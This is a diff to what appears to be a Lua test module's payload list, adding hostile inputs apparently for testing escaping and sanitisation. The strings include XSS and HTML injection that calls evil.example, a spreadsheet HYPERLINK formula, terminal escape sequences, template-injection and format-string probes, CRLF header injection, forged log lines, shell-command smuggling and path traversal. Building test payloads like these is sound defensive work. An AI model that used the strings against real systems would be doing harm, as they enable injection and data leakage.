@@ -98,6 +98,14 @@ M.PAYLOADS = {
   "@everyone", "ana@example.org", "$x$", "line\n\n# next\n- x", "tab\there",
   "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", '=HYPERLINK("http://evil.example")',
   'a"b', 'a""b,c', "a,b;c", "\27[2J\27]0;title\7", "\0nul", "\127\194\155",
+  "<svg/onload=alert(1)>", "<iframe src=http://evil.example/>", "<base href=//evil.example/>",
+  "<meta http-equiv=refresh content=0;url=http://evil.example/>",
+  "<style>@import 'http://evil.example/x'</style>", "<link rel=stylesheet href=//evil.example/x>",
+  "<form action=http://evil.example/><input name=a>", "*/alert(1)//", "{{7*7}} ${7*7} #{7*7}",
+  "%s%n%n%1000000d", "\r\nX-Evil: 1\r\n\r\n", '"}\n{"level":"error","forged":1}',
+  "\napogee: error: forged", "\u{9b}31m\u{90}q\u{9d}0;title\u{9c}", "a\u{2066}b\u{2069}\u{200f}",
+  "\27]8;;http://evil.example/\27\\x\27]8;;\27\\", "\8\8\8hidden", "$(id)`id`;id|id&id",
+  "../../../x",
   "a\u{202e}b\u{200b}c\u{2028}d", "\u{feff}bom", "\255\254 no utf-8", "\u{1f600}", ("x"):rep(5000),
 }
 
